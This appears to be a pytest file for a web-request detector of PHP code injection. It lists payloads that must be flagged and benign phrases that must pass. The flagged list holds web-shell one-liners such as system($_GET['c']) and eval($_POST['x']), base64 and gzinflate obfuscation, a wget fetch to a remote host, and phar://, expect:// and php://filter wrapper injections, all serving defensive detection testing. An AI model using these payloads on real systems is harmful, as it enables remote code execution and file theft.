"""PHP code injection."""

from __future__ import annotations

import pytest

from tests.detect.family_cases import benign_values, families

MUST_FIRE = [
    "<?php system($_GET['c']); ?>",
    "<?= `id` ?>",
    "<? exec('wget http://x/a') ?>",
    '<? php echo "test"',
    "<?\nphp echo 1",
    "<?xml :echo 1;",
    "[php]echo 1;[/php]",
    "base64_decode('ZWNobyAxOw==')",
    "FOOcall_user_func('system', 'id')",
    "gzinflate(base64_decode($x))",
    "shell_exec ('id')",
    "eval($_POST['x'])",
    "exec /*comment*/ ('ls')",
    "system('uname -a');",
    "file()",
    "chr(123).chr(125)",
    "$_SERVER['HTTP_HOST']",
    "$GLOBALS['cf908275'](14)",
    "$a(1)",
    "$$b(2)",
    "@$__[o](4)",
    "${'a'}(11)",
    "$_aB_4c[5]['d'] /*lol*/ (17)",
    "${'ff'}",
    "$ {$a}",
    "${@print(md5(31337))}",
    "(system)('uname');",
    "[system][0](ls);",
    'O:8:"stdClass":1:{s:1:"a";i:2;}',
    'C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}',
    "php://filter/convert.base64-encode/resource=index.php",
    "phar://uploads/avatar.jpg/shell.php",
    "expect://id",
    "zip://archive.zip#shell.php",
    "allow_url_include=On",
    "auto_prepend_file=php://input",
    "session.save_path=/tmp",
    # Callback gadgets: the function named, called or not.
    "Shell_exec=(bla)",
    "cb=ZlIb_DeCoDe",
    "call_user_func_array",
    # Non-word PHP functions with any argument.
    "fopen  (blah)",
    "filegroup (x)",
    "intval(foo)",
    "printf(foo)",
    # Extension functions called bare, or left open at the end.
    "is_array()",
    "file_ExistS (\n\n)",
    "date_ADD()",
    "array_diff (",
    "pg_enter_pipeline_mode (",
    "sodium_crypto_aead_chacha20poly1305_ietf_keygen (",
    "ldap_get_entries()",
    # A quoted name called, a comment before the parenthesis.
    'return"system"(xyz).s',
    "'exec'('id');",
    "checkdate/*x*/()",
    "range \t/*x*/()",
    # A name built by string operators and called.
    "${_.__}(30);",
]

MUST_NOT_FIRE = [
    "Rate: <? 5% (php devs ask)",
    "see file (attached)",
    "include (optional) notes",
    "system (SAP) maintenance tonight",
    "Pay $AAPL (Apple Inc)",
    "$100 (approx)",
    "Cost: $amount (to be confirmed)",
    "Order (2) of (3)",
    "Copy (1) of statement",
    "The phar lap rule",
    "session expired, log in again",
    "engine=v8 in the stack list",
    "Hello ${firstName}",
    "What <? means in a template",
    "Date of birth (DOB) and date_of_birth field",
    "array of cards (3)",
    "is_active (boolean) must be true",
    "The shell executes nightly; base64 encoded file attached",
    "file_name (see attachment) - statement_2024_03.pdf",
    "Call me (after 5pm) about the get-together",
    "Print (format A4) the 'copy' (2 pages)",
    "Passthru fee for interchange (0.2%)",
    "Use /* the old */ account",
    'Order: "system" (premium) plan',
    "str_name (street) and postal_code (zip)",
    # phpinfo only reports configuration: named in prose it is a sentence.
    "Moreover, phpinfo can leak configuration details",
]


@pytest.mark.parametrize("payload", MUST_FIRE)
def test_php_fires(payload: str) -> None:
    assert "php" in families(payload, "query", "q")


@pytest.mark.parametrize("payload", MUST_NOT_FIRE + benign_values())
def test_prose_passes(payload: str) -> None:
    assert "php" not in families(payload)
